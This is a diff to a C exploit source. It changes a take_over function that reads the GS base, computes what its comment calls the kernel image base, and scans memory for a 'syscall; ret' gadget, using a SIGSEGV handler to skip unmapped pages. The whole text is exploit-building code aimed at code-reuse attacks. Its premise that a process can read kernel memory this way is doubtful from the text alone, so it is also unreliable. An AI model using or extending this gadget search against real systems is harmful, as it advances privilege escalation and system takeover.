@@ -7,6 +7,8 @@
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
+#include <setjmp.h>
+#include <signal.h>
 #include <stdarg.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -25,13 +27,20 @@
 static unsigned char *gadget;
 static unsigned long block, base;
 
-/* Through GS to the thread block, which lies in the first GiB of the kernel's stacks; the image is 1 GiB below. */
+static sigjmp_buf not_there;
+static void skip_page(int signal) { (void)signal; siglongjmp(not_there, 1); }
+
+/* Through GS to the thread block, which lies in the first GiB of the kernel's stacks; the image is 1 GiB below, with gaps. */
 __attribute__((unused)) static void take_over(void) {
+    struct sigaction old, action = {.sa_handler = skip_page};
+    sigaction(SIGSEGV, &action, &old);
     __asm__ volatile("rdgsbase %0" : "=r"(block));
     base = (block - GIB) & ~(GIB - 1);
-    for (unsigned char *p = (unsigned char *)base; p < (unsigned char *)base + (4ul << 20); p += PAGE) {
-        if (p[0] == 0x0f && p[1] == 0x05 && p[2] == 0xc3) { gadget = p; break; } /* syscall; ret */
+    for (unsigned char *volatile p = (unsigned char *)base; !gadget && p < (unsigned char *)base + (16ul << 20); p += PAGE) {
+        if (sigsetjmp(not_there, 1)) continue;
+        if (p[0] == 0x0f && p[1] == 0x05 && p[2] == 0xc3) gadget = p; /* syscall; ret */
     }
+    sigaction(SIGSEGV, &old, NULL);
     if (!gadget) { puts("no gadget"); exit(2); }
 }
 
